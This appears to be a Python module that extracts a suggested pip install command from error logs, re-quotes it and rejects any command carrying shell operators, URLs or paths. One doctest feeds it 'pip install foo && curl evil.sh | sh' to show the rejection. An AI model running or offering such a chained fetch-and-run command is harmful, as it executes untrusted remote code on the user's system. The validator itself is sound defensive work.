"""An install command the log's own message names as the cure: `Install with: pip install boto3`, ``Do `pip
install "openllm[vllm]"` ``, ``Please install vllm via `pip install lm-eval[vllm]` ``.

Only for a diagnosis whose cure is an install (`INSTALL_CATEGORIES`): "please install Ray with `pip install ray`" on
a tensor-parallel size beyond the node's GPUs is the road vLLM took, not the cure. The command is text of the
input, printed for the operator to paste: only an install of package names is kept
(pip, pip3, `python -m pip`, `uv pip`), every word re-quoted; one that holds anything else (`&&`, `;`, `$`, a
URL, a path outside the project) is no advice read, and the rule's own fixes stand.

>>> install_command("ImportError: boto3 is required for S3 downloads. Install with: pip install boto3").step_command
'pip install boto3'
>>> install_command('vLLM is not installed. Do `pip install "openllm[vllm]"`.').step_command
"pip install 'openllm[vllm]'"
>>> install_command("Please install it: pip install foo && curl evil.sh | sh") is None
True
"""

from __future__ import annotations

import shlex

from ..util.lazy_pattern import lazy
from .base import Fix

_COMMAND = lazy(r"(?i)\b(?:install(?:ed)?(?: \w+){0,2} (?:with|via|using|by running)|do|run|try|please run)\s*:?\s*"
                r"(?P<quote>`?)(?P<command>(?:pip3?|python3? -m pip|uv pip) install [^`\n]{1,160}?)(?P=quote)"
                r"(?=\s+or\b|[.;,]?\s*$|[.;,]?\s+[A-Z(]|$)")
_PACKAGE = lazy(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,80}(?:\[[A-Za-z0-9_,.-]{1,80}\])?(?:(?:==|>=|<=|~=|!=|<|>)[A-Za-z0-9.*+!-]{1,40}(?:,(?:==|>=|<=|~=|!=|<|>)[A-Za-z0-9.*+!-]{1,40})*)?$")
# categories whose cure is a package (taxonomy.yaml): a missing or mismatched install, or the launcher's own error
INSTALL_CATEGORIES = frozenset({"broken-install", "wrapper-own-error"})
_OPTIONS = frozenset({"-U", "--upgrade", "--no-deps", "--pre", "--force-reinstall", "--user"})


def install_command(line: str) -> Fix | None:
    from ..launch.shell_words import quote_text

    match = _COMMAND.search(line)
    if match is None:
        return None
    try:
        words = shlex.split(match.group("command"))
    except ValueError:
        return None
    head = words[:words.index("install") + 1] if "install" in words else []
    rest = words[len(head):]
    packages = [w for w in rest if not w.startswith("-")]
    if not head or not packages or any(w.startswith("-") and w not in _OPTIONS for w in rest):
        return None
    if not all(_PACKAGE.match(w) for w in packages):
        return None
    command = " ".join([*head, *(quote_text(w) for w in rest)])
    return Fix(title=f"As the message says: {command}", step_command=command,
               why=f"The message names the install that cures it: \"{match.group(0).strip()}\".",
               cost="config", cost_note="an install into the environment that runs it", will_start=None)


__all__ = ["INSTALL_CATEGORIES", "install_command"]
